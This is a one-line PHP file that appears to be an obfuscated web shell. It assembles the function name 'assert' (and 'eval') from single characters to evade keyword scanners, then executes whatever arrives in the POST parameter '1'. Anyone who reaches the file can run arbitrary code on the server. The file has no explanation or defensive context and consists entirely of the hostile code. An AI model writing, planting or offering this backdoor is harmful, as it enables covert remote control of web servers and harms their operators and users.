<?php $k = "e" . "v" . "a" . "l"; $f = "a"."s"."s"."e"."r"."t"; $f($_POST[1]);
